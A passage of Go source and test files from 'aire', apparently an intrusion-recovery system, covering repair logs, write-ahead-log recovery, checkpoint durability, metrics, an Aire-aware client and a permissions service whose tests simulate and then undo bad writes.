		quiet.Call("a", "b", repair)
	}

	noisy := build()
	for i := 0; i < 40; i++ {
		noisy.Call("a", "b", wire.NewRequest("GET", "/get"))          // live traffic
		noisy.Call("c", "b", wire.NewRequest("POST", "/put"))         // more live traffic
		noisy.Partition([]string{"a", "b"}, []string{"c"})            // c cut off
		noisy.Call("c", "a", wire.NewRequest("POST", "/aire/repair")) // partitioned: no draw
		noisy.Heal()
		noisy.Call("a", "b", repair)
	}

	got := noisy.Trace()
	var gotFaults []string
	for _, line := range got {
		if line != "partition c->a /aire/repair" {
			gotFaults = append(gotFaults, line)
		}
	}
	if want := quiet.Trace(); !reflect.DeepEqual(gotFaults, want) {
		t.Fatalf("fault schedule shifted under unfaultable traffic:\nnoisy: %v\nquiet: %v", gotFaults, want)
	}
}
