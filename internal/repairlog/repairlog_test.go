package repairlog

import (
	"fmt"
	"testing"

	"aire/internal/vdb"
	"aire/internal/wire"
)

func rec(id string, ts int64) *Record {
	return &Record{ID: id, TS: ts, Req: wire.NewRequest("GET", "/x"), Resp: wire.NewResponse(200, "ok")}
}

func TestAppendOrderingAndLookup(t *testing.T) {
	l := New(false)
	for _, r := range []*Record{rec("b", 20), rec("a", 10), rec("c", 30)} {
		if err := l.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	all := l.All()
	if len(all) != 3 || all[0].ID != "a" || all[1].ID != "b" || all[2].ID != "c" {
		t.Fatalf("order wrong: %v", []string{all[0].ID, all[1].ID, all[2].ID})
	}
	if _, ok := l.Get("b"); !ok {
		t.Fatal("Get(b) failed")
	}
	if err := l.Append(rec("a", 99)); err == nil {
		t.Fatal("duplicate ID must be rejected")
	}
	if ts, ok := l.TSOf("c"); !ok || ts != 30 {
		t.Fatalf("TSOf(c) = %d, %v", ts, ok)
	}
}

func TestFrom(t *testing.T) {
	l := New(false)
	for i := 1; i <= 5; i++ {
		l.Append(rec(fmt.Sprintf("r%d", i), int64(i*10)))
	}
	got := l.From(30)
	if len(got) != 3 || got[0].ID != "r3" {
		t.Fatalf("From(30) = %d records starting %s", len(got), got[0].ID)
	}
}

func TestInsertionInThePast(t *testing.T) {
	l := New(false)
	l.Append(rec("r1", 10))
	l.Append(rec("r3", 30))
	l.Append(rec("r2", 20)) // repair-created request lands between
	all := l.All()
	if all[1].ID != "r2" {
		t.Fatalf("created record not ordered by TS: %s", all[1].ID)
	}
}

func TestUpdate(t *testing.T) {
	l := New(false)
	l.Append(rec("r1", 10))
	if err := l.Update("r1", func(r *Record) { r.Skipped = true }); err != nil {
		t.Fatal(err)
	}
	r, _ := l.Get("r1")
	if !r.Skipped {
		t.Fatal("update not applied")
	}
	if err := l.Update("nope", func(*Record) {}); err == nil {
		t.Fatal("update of missing record must fail")
	}
}

func TestFindByCallRespID(t *testing.T) {
	l := New(false)
	r := rec("r1", 10)
	r.Calls = []Call{
		{Seq: 0, Target: "b", RespID: "a-resp-1"},
		{Seq: 1, Target: "c", RespID: "a-resp-2"},
	}
	l.Append(r)
	got, i, ok := l.FindByCallRespID("a-resp-2")
	if !ok || got.ID != "r1" || i != 1 {
		t.Fatalf("FindByCallRespID = %v %d %v", got, i, ok)
	}
	if _, _, ok := l.FindByCallRespID("missing"); ok {
		t.Fatal("found nonexistent response id")
	}
}

func TestNeighborCalls(t *testing.T) {
	l := New(false)
	r1 := rec("r1", 10)
	r1.Calls = []Call{{Target: "b", RemoteReqID: "b-req-1"}}
	r2 := rec("r2", 30)
	r2.Calls = []Call{{Target: "b", RemoteReqID: "b-req-2"}, {Target: "c", RemoteReqID: "c-req-9"}}
	l.Append(r1)
	l.Append(r2)

	before, after := l.NeighborCalls("b", 20)
	if before != "b-req-1" || after != "b-req-2" {
		t.Fatalf("NeighborCalls(b,20) = %q,%q", before, after)
	}
	before, after = l.NeighborCalls("b", 5)
	if before != "" || after != "b-req-1" {
		t.Fatalf("NeighborCalls(b,5) = %q,%q", before, after)
	}
	before, after = l.NeighborCalls("b", 99)
	if before != "b-req-2" || after != "" {
		t.Fatalf("NeighborCalls(b,99) = %q,%q", before, after)
	}
	before, after = l.NeighborCalls("c", 10)
	if before != "" || after != "c-req-9" {
		t.Fatalf("NeighborCalls(c,10) = %q,%q", before, after)
	}
}

func TestGC(t *testing.T) {
	l := New(false)
	for i := 1; i <= 5; i++ {
		l.Append(rec(fmt.Sprintf("r%d", i), int64(i*10)))
	}
	if n := l.GC(30); n != 2 {
		t.Fatalf("GC removed %d, want 2", n)
	}
	if _, ok := l.Get("r1"); ok {
		t.Fatal("GC'd record still present")
	}
	if l.Len() != 3 || l.GCBefore() != 30 {
		t.Fatalf("Len=%d GCBefore=%d", l.Len(), l.GCBefore())
	}
}

func TestSizeAccounting(t *testing.T) {
	plain, gz := New(false), New(true)
	big := rec("r1", 10)
	big.Resp = wire.NewResponse(200, string(make([]byte, 4096))) // zeros compress well
	plain.Append(big)
	gz.Append(big.Clone())
	if plain.AppBytes() <= 0 || gz.AppBytes() <= 0 {
		t.Fatal("size accounting missing")
	}
	if gz.AppBytes() >= plain.AppBytes() {
		t.Fatalf("compressed size %d should beat raw %d on compressible data", gz.AppBytes(), plain.AppBytes())
	}
	if plain.Samples() != 1 {
		t.Fatalf("samples = %d", plain.Samples())
	}
}

func TestCloneIsDeep(t *testing.T) {
	r := rec("r1", 10)
	r.Reads = []ReadDep{{Key: vdb.Key{Model: "kv", ID: "x"}, TS: 5, Hash: 7}}
	r.Calls = []Call{{Target: "b", Req: wire.NewRequest("POST", "/p")}}
	c := r.Clone()
	c.Reads[0].Hash = 99
	c.Calls[0].Req.Form["k"] = "v"
	c.Resp.Body = []byte("changed")
	if r.Reads[0].Hash != 7 || len(r.Calls[0].Req.Form) != 0 || string(r.Resp.Body) == "changed" {
		t.Fatal("Clone shares state with original")
	}
}
