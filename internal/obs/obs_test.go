package obs

import (
	"strings"
	"testing"
)

func TestCounterStripedSum(t *testing.T) {
	r := New(0)
	c := r.Counter("c")
	done := make(chan struct{})
	for g := 0; g < 8; g++ {
		go func() {
			defer func() { done <- struct{}{} }()
			for i := 0; i < 1000; i++ {
				c.Inc()
			}
		}()
	}
	for g := 0; g < 8; g++ {
		<-done
	}
	if got := c.Value(); got != 8000 {
		t.Fatalf("striped counter = %d, want 8000", got)
	}
	if r.Counter("c") != c {
		t.Fatal("same name must resolve the same counter")
	}
}

func TestGauge(t *testing.T) {
	g := New(0).Gauge("g")
	g.Set(41)
	g.Set(-7)
	if got := g.Value(); got != -7 {
		t.Fatalf("gauge = %d, want -7", got)
	}
}

func TestHistogramQuantilesAndDelta(t *testing.T) {
	r := New(0)
	h := r.Histogram("h")
	// 100 samples at ~1ms, 10 at ~100ms: p50 lands in the 1ms region,
	// p99 in the 100ms region.
	for i := 0; i < 100; i++ {
		h.ObserveNS(1_000_000)
	}
	mid := h.snapshot()
	for i := 0; i < 10; i++ {
		h.ObserveNS(100_000_000)
	}
	s := h.snapshot()
	if s.Count != 110 {
		t.Fatalf("count = %d, want 110", s.Count)
	}
	if s.MaxNS < 100_000_000 {
		t.Fatalf("max = %d, want >= 1e8", s.MaxNS)
	}
	// Power-of-two buckets: quantiles are bucket-region estimates, not
	// exact values — assert the region.
	p50, p99 := s.QuantileNS(0.50), s.QuantileNS(0.99)
	if p50 < 250_000 || p50 > 2_000_000 {
		t.Fatalf("p50 = %d, want in the 1ms bucket region", p50)
	}
	if p99 < 25_000_000 || p99 > 200_000_000 {
		t.Fatalf("p99 = %d, want in the 100ms bucket region", p99)
	}
	// The windowed view between the two snapshots holds only the slow
	// samples.
	d := s.DeltaFrom(mid)
	if d.Count != 10 {
		t.Fatalf("delta count = %d, want 10", d.Count)
	}
	if q := d.QuantileNS(0.5); q < 25_000_000 {
		t.Fatalf("delta p50 = %d, want in the 100ms bucket region", q)
	}
}

func TestRingWrap(t *testing.T) {
	r := newRing(4)
	for i := 0; i < 6; i++ {
		r.Record(Span{Hop: i})
	}
	spans := r.Spans()
	if len(spans) != 4 {
		t.Fatalf("buffered = %d, want 4", len(spans))
	}
	for i, s := range spans {
		if s.Hop != i+2 { // oldest two (0, 1) overwritten
			t.Fatalf("span %d has hop %d, want %d", i, s.Hop, i+2)
		}
	}
	if r.Total() != 6 {
		t.Fatalf("total = %d, want 6", r.Total())
	}
}

func TestNilSafety(t *testing.T) {
	var r *Registry
	r.Counter("x").Inc()
	r.Gauge("x").Set(1)
	r.Histogram("x").ObserveNS(1)
	r.Ring().Record(Span{})
	if r.Counter("x") != nil || r.Ring() != nil {
		t.Fatal("nil registry must hand out nil handles")
	}
	if n := r.Ring().Total(); n != 0 {
		t.Fatalf("nil ring total = %d", n)
	}
}

// TestWavesReconstruction feeds a synthetic two-hop cascade (with a
// duplicate delivery and an in-flight straggler) through Waves and checks
// the reconstructed shape.
func TestWavesReconstruction(t *testing.T) {
	spans := []Span{
		{Wave: "w1", Hop: 0, Service: "s0", Kind: SpanRepair, Subject: "walk", StartNS: 0, EndNS: 5},
		{Wave: "w1", Hop: 1, Service: "s0", Kind: SpanEnqueue, Subject: "d1", Peer: "s1", StartNS: 10, EndNS: 10},
		{Wave: "w1", Hop: 1, Service: "s0", Kind: SpanDeliver, Subject: "d1", Peer: "s1", StartNS: 40, EndNS: 50},
		// Duplicate delivery attempt: pairing must take the LAST end.
		{Wave: "w1", Hop: 1, Service: "s0", Kind: SpanReconcile, Subject: "d1", Peer: "s1", StartNS: 55, EndNS: 60},
		{Wave: "w1", Hop: 2, Service: "s1", Kind: SpanEnqueue, Subject: "d2", Peer: "s2", StartNS: 70, EndNS: 70},
		// d2 never reconciles: contributes depth, no latency.
		{Wave: "w2", Hop: 0, Service: "s9", Kind: SpanRepair, Subject: "totals", StartNS: 0, EndNS: 1},
	}
	waves := Waves(spans)
	if len(waves) != 2 {
		t.Fatalf("got %d waves, want 2", len(waves))
	}
	w1 := waves[0]
	if w1.Wave != "w1" || w1.Origin != "s0" || w1.MaxHop != 2 || w1.Spans != 5 {
		t.Fatalf("w1 = %+v", w1)
	}
	if len(w1.Hops) != 1 || w1.Hops[0].Hop != 1 {
		t.Fatalf("w1 hops = %+v, want exactly hop 1 paired", w1.Hops)
	}
	if h := w1.Hops[0]; h.Msgs != 1 || h.MaxLatencyNS != 50 || h.SumLatencyNS != 50 {
		t.Fatalf("hop 1 = %+v, want 1 msg at 50ns (enqueue 10 → reconcile 60)", h)
	}
	if waves[1].Origin != "s9" || waves[1].MaxHop != 0 {
		t.Fatalf("w2 = %+v", waves[1])
	}
}

func TestSnapshotAndPromText(t *testing.T) {
	r := New(8)
	r.Counter("core.a.requests").Add(3)
	r.Gauge("core.a.queue_depth").Set(2)
	r.Histogram("core.a.deliver_ns").ObserveNS(1_500_000)
	s := r.Snapshot()
	if s.Counters["core.a.requests"] != 3 || s.Gauges["core.a.queue_depth"] != 2 {
		t.Fatalf("snapshot = %+v", s)
	}

	var b strings.Builder
	s.WriteProm(&b)
	text := b.String()
	for _, want := range []string{
		"# TYPE core_a_requests counter",
		"core_a_requests 3",
		"core_a_queue_depth 2",
		`core_a_deliver_ns_bucket{le="+Inf"} 1`,
		"core_a_deliver_ns_count 1",
		"core_a_deliver_ns_sum 0.0015",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("prom text missing %q:\n%s", want, text)
		}
	}

	// The human-readable form is sorted and stable.
	if out := s.String(); !strings.Contains(out, "core.a.requests") {
		t.Errorf("snapshot string missing counter:\n%s", out)
	}
}
