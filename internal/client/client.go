// Package client implements an Aire-aware end-user client — the piece the
// paper's prototype leaves out ("our current Aire prototype does not
// support browser clients", §2.3).
//
// A Client is not a service: it has no inbound address, so it cannot be
// handed response-repair tokens the way services are (§3.1). Instead it
// tags every request with a poll:// notifier URL; servers park tokens in a
// per-client mailbox, and the client polls, fetches each token's
// replace_response payload, and applies it to its own local state through
// an application callback.
//
// The client also remembers the Aire-Request-Id of every request it made,
// so the user can later repair their own actions (replace or delete a past
// request) — the "user or administrator pinpoints the unwanted operation"
// workflow of §2.
package client

import (
	"encoding/json"
	"fmt"
	"sync"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

// Sent records one request the client made.
type Sent struct {
	// Service is the service the request went to.
	Service string
	// ReqID is the Aire-Request-Id the service assigned.
	ReqID string
	// RespID is the Aire-Response-Id the client assigned to the response.
	RespID string
	// Req and Resp are the request and its current (possibly repaired)
	// response.
	Req  wire.Request
	Resp wire.Response
}

// RepairHandler is invoked when a server repairs the response of a past
// request: the application updates whatever local state it derived from the
// old response (§5's partially-repaired-state contract, client side).
type RepairHandler func(old Sent, newResp wire.Response)

// Client is a stateful Aire-aware client.
type Client struct {
	// ID identifies the client's mailbox on servers.
	ID string
	// Net is the transport (clients call with an empty from-identity, like
	// a browser).
	Net core.Caller
	// OnRepair, if set, observes every applied response repair.
	OnRepair RepairHandler

	mu    sync.Mutex
	seq   int
	sent  []*Sent
	byRID map[string]*Sent
}

// New returns a client with the given mailbox ID.
func New(id string, net core.Caller) *Client {
	return &Client{ID: id, Net: net, byRID: make(map[string]*Sent)}
}

// Call sends a request with Aire client headers attached and records the
// identifiers both sides assigned.
func (c *Client) Call(service string, req wire.Request) (wire.Response, error) {
	c.mu.Lock()
	c.seq++
	respID := fmt.Sprintf("%s-resp-%d", c.ID, c.seq)
	c.mu.Unlock()

	out := req.WithHeader(
		wire.HdrResponseID, respID,
		wire.HdrNotifierURL, transport.PollNotifierURL(c.ID),
	)
	resp, err := c.Net.Call("", service, out)
	if err != nil {
		return wire.Response{}, err
	}
	s := &Sent{
		Service: service,
		ReqID:   resp.Header[wire.HdrRequestID],
		RespID:  respID,
		Req:     req.Clone(),
		Resp:    resp.Clone(),
	}
	c.mu.Lock()
	c.sent = append(c.sent, s)
	c.byRID[respID] = s
	c.mu.Unlock()
	return resp, nil
}

// History returns a copy of everything the client has sent.
func (c *Client) History() []Sent {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]Sent, len(c.sent))
	for i, s := range c.sent {
		out[i] = *s
	}
	return out
}

// Poll checks the named service's mailbox for response repairs and applies
// them; it returns how many repairs were applied.
func (c *Client) Poll(service string) (int, error) {
	resp, err := c.Net.Call("", service, wire.NewRequest("GET", "/aire/poll").WithForm("client_id", c.ID))
	if err != nil {
		return 0, err
	}
	if !resp.OK() {
		return 0, fmt.Errorf("client: poll %s: %d %s", service, resp.Status, resp.Body)
	}
	var tokens []string
	if err := json.Unmarshal(resp.Body, &tokens); err != nil {
		return 0, fmt.Errorf("client: bad poll payload: %w", err)
	}
	applied := 0
	for _, tok := range tokens {
		if err := c.fetchAndApply(service, tok); err != nil {
			return applied, err
		}
		applied++
	}
	return applied, nil
}

type respPayload struct {
	RespID      string `json:"resp_id"`
	RemoteReqID string `json:"remote_req_id"`
	Resp        []byte `json:"resp"`
}

func (c *Client) fetchAndApply(service, token string) error {
	resp, err := c.Net.Call("", service, wire.NewRequest("POST", "/aire/fetch_repair").WithForm("token", token))
	if err != nil {
		return err
	}
	if !resp.OK() {
		return fmt.Errorf("client: fetch_repair: %d %s", resp.Status, resp.Body)
	}
	var p respPayload
	if err := json.Unmarshal(resp.Body, &p); err != nil {
		return fmt.Errorf("client: bad fetch payload: %w", err)
	}
	newResp, err := wire.DecodeResponse(p.Resp)
	if err != nil {
		return err
	}
	c.mu.Lock()
	s, ok := c.byRID[p.RespID]
	var old Sent
	if ok {
		old = *s
		s.Resp = newResp.Clone()
		if p.RemoteReqID != "" {
			s.ReqID = p.RemoteReqID
		}
	}
	c.mu.Unlock()
	if ok && c.OnRepair != nil {
		c.OnRepair(old, newResp)
	}
	return nil
}

// RepairDelete asks the service to cancel one of this client's past
// requests. Credential headers for the service's authorize policy ride on
// creds.
func (c *Client) RepairDelete(s Sent, creds map[string]string) (wire.Response, error) {
	req := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete",
		wire.HdrRequestID, s.ReqID,
	)
	for k, v := range creds {
		req.Header[k] = v
	}
	return c.Net.Call("", s.Service, req)
}

// RepairReplace asks the service to replace one of this client's past
// requests with corrected content.
func (c *Client) RepairReplace(s Sent, newReq wire.Request, creds map[string]string) (wire.Response, error) {
	c.mu.Lock()
	c.seq++
	respID := fmt.Sprintf("%s-resp-%d", c.ID, c.seq)
	c.mu.Unlock()
	req := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "replace",
		wire.HdrRequestID, s.ReqID,
		wire.HdrResponseID, respID,
		wire.HdrNotifierURL, transport.PollNotifierURL(c.ID),
	)
	req.Body = newReq.Encode()
	for k, v := range creds {
		req.Header[k] = v
	}
	c.mu.Lock()
	ns := &Sent{Service: s.Service, ReqID: s.ReqID, RespID: respID, Req: newReq.Clone()}
	c.sent = append(c.sent, ns)
	c.byRID[respID] = ns
	c.mu.Unlock()
	return c.Net.Call("", s.Service, req)
}
