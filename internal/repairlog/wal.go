package repairlog

import (
	"fmt"
	"sort"
)

// Change is one log mutation, emitted to the change sink as it happens
// (under the log lock). The WAL layer groups changes into per-commit change
// sets; ApplyWAL replays them during recovery.
type Change struct {
	// Kind is "append", "update", or "gc".
	Kind string `json:"kind"`
	// Record is a deep copy of the appended/updated record.
	Record *Record `json:"record,omitempty"`
	// BeforeTS is the horizon for gc.
	BeforeTS int64 `json:"before_ts,omitempty"`
}

// SetChangeSink installs fn to observe every mutation. fn runs with the log
// lock held and must not call back into the log. Pass nil to detach.
func (l *Log) SetChangeSink(fn func(Change)) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.sink = fn
}

func (l *Log) emitLocked(ch Change) {
	if l.sink != nil {
		l.sink(ch)
	}
}

// ApplyWAL upserts a replayed record during recovery: an unknown ID appends
// (assigning the next seq, so relative timeline tie-breaks match the
// original insertion order — WAL entries replay in append order), a known ID
// updates in place preserving the record's existing seq. It never emits to
// the sink and is idempotent.
func (l *Log) ApplyWAL(rec *Record) error {
	if rec == nil {
		return fmt.Errorf("repairlog: nil WAL record")
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if old, ok := l.byID[rec.ID]; ok {
		l.unindexLocked(old)
		seq := old.seq
		*old = *rec.Clone()
		old.seq = seq
		l.indexLocked(old)
		return nil
	}
	r := rec.Clone()
	l.nextSeq++
	r.seq = l.nextSeq
	l.byID[r.ID] = r
	i := sort.Search(len(l.order), func(i int) bool { return l.order[i].TS > r.TS })
	l.order = append(l.order, nil)
	copy(l.order[i+1:], l.order[i:])
	l.order[i] = r
	l.indexLocked(r)
	l.accountSize(r)
	return nil
}

// ApplyWALGC replays a logged GC without re-emitting it.
func (l *Log) ApplyWALGC(beforeTS int64) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.gcLocked(beforeTS)
}
