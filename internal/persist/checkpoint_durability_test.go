package persist_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"aire/internal/core"
	"aire/internal/harness"
	"aire/internal/persist"
	"aire/internal/transport"
	"aire/internal/wal"
	"aire/internal/warp"
	"aire/internal/wire"
)

// TestCheckpointCoversOnlyDurableTail is the regression test for the
// checkpoint/fsync-lag sequence hazard: under fsync=none a checkpoint used
// to record UpToSeq past the WAL's durable tail, so a power loss left the
// log ending below the checkpoint's claim, the recovered writer re-issued
// the covered sequences to fresh commits, and the NEXT recovery's
// replay-from-UpToSeq silently skipped them. WriteCheckpoint now forces the
// log durable before reading the covered sequence, so the sequence space
// below UpToSeq can never be handed out again.
func TestCheckpointCoversOnlyDurableTail(t *testing.T) {
	dir := t.TempDir()
	opts := wal.Options{Policy: wal.FsyncNone}
	bus := transport.NewBus()
	newA := func() *core.Controller {
		c := core.NewController(&harness.KVApp{ServiceName: "a"}, bus, core.DefaultConfig())
		bus.Register("a", c)
		return c
	}
	put := func(key, val string) {
		t.Helper()
		resp, err := bus.Call("", "a", wire.NewRequest("POST", "/put").WithForm("key", key, "val", val))
		if err != nil || !resp.OK() {
			t.Fatalf("put %s: %v %+v", key, err, resp)
		}
	}
	get := func(key string) string {
		t.Helper()
		resp, err := bus.Call("", "a", wire.NewRequest("GET", "/get").WithForm("key", key))
		if err != nil {
			t.Fatalf("get %s: %v", key, err)
		}
		return string(resp.Body)
	}

	a := newA()
	w, err := persist.Recover(a, dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	put("a", "1")
	put("b", "2")
	upTo, err := persist.CheckpointAndTruncate(a, w, dir)
	if err != nil {
		t.Fatal(err)
	}
	if upTo == 0 {
		t.Fatal("checkpoint covered nothing")
	}
	golden := snapJSON(t, a)
	put("c", "3") // never fsynced: a power loss may take it

	// Power loss: everything after the last fsync is gone. The checkpoint
	// synced the log before claiming coverage, so at most the post-
	// checkpoint tail is lost — never anything at or below upTo.
	if _, err := w.CrashLose(); err != nil {
		t.Fatal(err)
	}
	a2 := newA()
	w2, err := persist.Recover(a2, dir, opts)
	if err != nil {
		t.Fatalf("recovery after power loss: %v", err)
	}
	if got := w2.Seq(); got < upTo {
		t.Fatalf("recovered WAL resumes at seq %d, below the checkpoint's covered %d: fresh commits would reuse covered sequences", got, upTo)
	}
	if got := snapJSON(t, a2); !bytes.Equal(golden, got) {
		t.Fatalf("recovery lost checkpoint-covered state:\n golden: %s\n got:    %s", golden, got)
	}

	// A post-recovery commit must survive the next (clean) restart: with
	// the old bug its sequence landed at or below upTo and replay skipped
	// it silently.
	put("d", "4")
	if err := w2.Close(); err != nil {
		t.Fatal(err)
	}
	a3 := newA()
	w3, err := persist.Recover(a3, dir, opts)
	if err != nil {
		t.Fatal(err)
	}
	defer w3.Close()
	if got := get("d"); got != "4" {
		t.Fatalf("post-recovery commit silently dropped by the next recovery: d = %q, want %q", got, "4")
	}
}

// TestRecoverRefusesCheckpointBeyondWAL: a checkpoint claiming coverage past
// the end of the log means durably committed entries are missing; recovery
// must fail loudly (wrapping wal.ErrCorrupt) instead of resuming a sequence
// space whose tail a later replay would silently skip.
func TestRecoverRefusesCheckpointBeyondWAL(t *testing.T) {
	dir := t.TempDir()
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a"}, bus, core.DefaultConfig())
	bus.Register("a", a)
	w, err := persist.Recover(a, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := bus.Call("", "a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "1"))
	if err != nil || !resp.OK() {
		t.Fatalf("put: %v %+v", err, resp)
	}
	last := w.Seq()
	cp := persist.Checkpoint{UpToSeq: last + 10, Snap: persist.Capture(a)}
	data, err := json.Marshal(&cp)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, persist.CheckpointName(cp.UpToSeq)), data, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	a2 := core.NewController(&harness.KVApp{ServiceName: "a"}, bus, core.DefaultConfig())
	if _, err := persist.Recover(a2, dir, wal.Options{Policy: wal.FsyncEveryCommit}); err == nil {
		t.Fatal("recovery accepted a checkpoint covering sequences the log does not reach")
	} else if !errors.Is(err, wal.ErrCorrupt) {
		t.Fatalf("recovery error does not wrap wal.ErrCorrupt: %v", err)
	}
}

// TestCheckpointOverlapKeepsLaterAccepts is the regression test for the
// batch-drain replay bug: a checkpoint's covered sequence is read before
// its snapshot is captured, so the replayed tail can contain a batch drain
// that happened BEFORE the snapshot — and the snapshot's inbox then holds
// only actions accepted after that drain. Replaying the drain by count used
// to remove those later accepts (while their dedup reservations stayed
// stuck in-flight, turning every redelivery into a retryable answer
// forever); replaying by accept-sequence watermark leaves them alone.
func TestCheckpointOverlapKeepsLaterAccepts(t *testing.T) {
	dir := t.TempDir()
	bus := transport.NewBus()
	a := core.NewController(&harness.KVApp{ServiceName: "a", Mirror: "b"}, bus, core.DefaultConfig())
	bus.Register("a", a)
	bcfg := core.DefaultConfig()
	bcfg.BatchIncoming = true
	b := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, bcfg)
	bus.Register("b", b)
	w, err := persist.Recover(b, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}

	mustCall := func(svc string, req wire.Request) wire.Response {
		t.Helper()
		resp, err := bus.Call("", svc, req)
		if err != nil || !resp.OK() {
			t.Fatalf("%s %s: %v %+v", req.Method, req.Path, err, resp)
		}
		return resp
	}
	cancelAndDeliver := func(id string) {
		t.Helper()
		if _, err := a.ApplyLocal(warp.Action{Kind: warp.CancelReq, ReqID: id}); err != nil {
			t.Fatal(err)
		}
		a.Flush()
	}

	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "good"))
	attackX := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "x", "val", "evil"))
	mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "y", "val", "fine"))
	attackY := mustCall("a", wire.NewRequest("POST", "/put").WithForm("key", "y", "val", "worse"))

	// First repair delivery is accepted into b's batch inbox.
	cancelAndDeliver(attackX.Header[wire.HdrRequestID])
	if got := b.InboxLen(); got != 1 {
		t.Fatalf("inbox after first delivery = %d, want 1", got)
	}

	// The checkpoint-overlap window, replayed deterministically: the
	// covered sequence is read HERE, then the drain and a second accept
	// land in the log, then the snapshot is captured. WriteCheckpoint does
	// exactly this when ProcessIncoming and a delivery race its capture.
	upTo := w.Seq()
	if _, err := b.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	cancelAndDeliver(attackY.Header[wire.HdrRequestID])
	if got := b.InboxLen(); got != 1 {
		t.Fatalf("inbox after second delivery = %d, want 1", got)
	}
	cp := persist.Checkpoint{UpToSeq: upTo, Snap: persist.Capture(b)}
	data, err := json.Marshal(&cp)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, persist.CheckpointName(upTo)), data, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}

	// Recovery replays the drain against a snapshot whose inbox holds only
	// the second accept. The drain must not touch it.
	b2 := core.NewController(&harness.KVApp{ServiceName: "b"}, bus, bcfg)
	w2, err := persist.Recover(b2, dir, wal.Options{Policy: wal.FsyncEveryCommit})
	if err != nil {
		t.Fatal(err)
	}
	defer w2.Close()
	bus.Register("b", b2)
	if got := b2.InboxLen(); got != 1 {
		t.Fatalf("recovered inbox = %d actions, want 1 (replayed drain removed an accept it never drained)", got)
	}
	if _, err := b2.ProcessIncoming(); err != nil {
		t.Fatal(err)
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "x")).Body); got != "good" {
		t.Fatalf("b x = %q, want %q", got, "good")
	}
	if got := string(mustCall("b", wire.NewRequest("GET", "/get").WithForm("key", "y")).Body); got != "fine" {
		t.Fatalf("b y = %q, want %q (second accepted repair was lost)", got, "fine")
	}
}
