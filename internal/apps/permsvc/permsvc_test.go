package permsvc

import (
	"strings"
	"testing"

	"aire/internal/core"
	"aire/internal/transport"
	"aire/internal/wire"
)

const admin = "perm-admin"

func newTB(t *testing.T) *transport.Bus {
	t.Helper()
	bus := transport.NewBus()
	ctrl := core.NewController(New(admin), bus, core.DefaultConfig())
	bus.Register("perms", ctrl)
	return bus
}

func call(t *testing.T, bus *transport.Bus, req wire.Request) wire.Response {
	t.Helper()
	resp, err := bus.Call("", "perms", req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestGrantCheckRevoke(t *testing.T) {
	bus := newTB(t)
	// Grants need the admin token.
	noAuth := wire.NewRequest("POST", "/grant").WithForm("svc", "crm", "user", "alice", "level", "rw")
	if resp := call(t, bus, noAuth); resp.Status != 403 {
		t.Fatalf("tokenless grant accepted: %d", resp.Status)
	}
	if resp := call(t, bus, noAuth.WithHeader("X-Admin-Token", admin)); !resp.OK() {
		t.Fatalf("grant: %s", resp.Body)
	}
	// Check answers the level; unknown users get "".
	if got := string(call(t, bus, wire.NewRequest("GET", "/check").
		WithForm("svc", "crm", "user", "alice")).Body); got != "rw" {
		t.Fatalf("check = %q", got)
	}
	if got := string(call(t, bus, wire.NewRequest("GET", "/check").
		WithForm("svc", "crm", "user", "nobody")).Body); got != "" {
		t.Fatalf("unknown user check = %q", got)
	}
	// Revoke via empty level.
	call(t, bus, wire.NewRequest("POST", "/grant").
		WithForm("svc", "crm", "user", "alice", "level", "").
		WithHeader("X-Admin-Token", admin))
	if got := string(call(t, bus, wire.NewRequest("GET", "/check").
		WithForm("svc", "crm", "user", "alice")).Body); got != "" {
		t.Fatalf("post-revoke check = %q", got)
	}
	// Missing fields rejected.
	if resp := call(t, bus, wire.NewRequest("POST", "/grant").
		WithHeader("X-Admin-Token", admin)); resp.Status != 400 {
		t.Fatalf("empty grant: %d", resp.Status)
	}
}

func TestGrantsList(t *testing.T) {
	bus := newTB(t)
	for _, u := range []string{"a", "b"} {
		call(t, bus, wire.NewRequest("POST", "/grant").
			WithForm("svc", "crm", "user", u, "level", "r").
			WithHeader("X-Admin-Token", admin))
	}
	out := string(call(t, bus, wire.NewRequest("GET", "/grants")).Body)
	if !strings.Contains(out, "crm|a=r") || !strings.Contains(out, "crm|b=r") {
		t.Fatalf("grants = %q", out)
	}
}

func TestRepairPolicy(t *testing.T) {
	bus := newTB(t)
	g := call(t, bus, wire.NewRequest("POST", "/grant").
		WithForm("svc", "crm", "user", "mallory", "level", "rw").
		WithHeader("X-Admin-Token", admin))
	del := wire.NewRequest("POST", "/aire/repair").WithHeader(
		wire.HdrRepair, "delete", wire.HdrRequestID, g.Header[wire.HdrRequestID])
	if resp := call(t, bus, del); resp.Status != 403 {
		t.Fatalf("tokenless grant repair accepted: %d", resp.Status)
	}
	if resp := call(t, bus, del.WithHeader("X-Admin-Token", admin)); !resp.OK() {
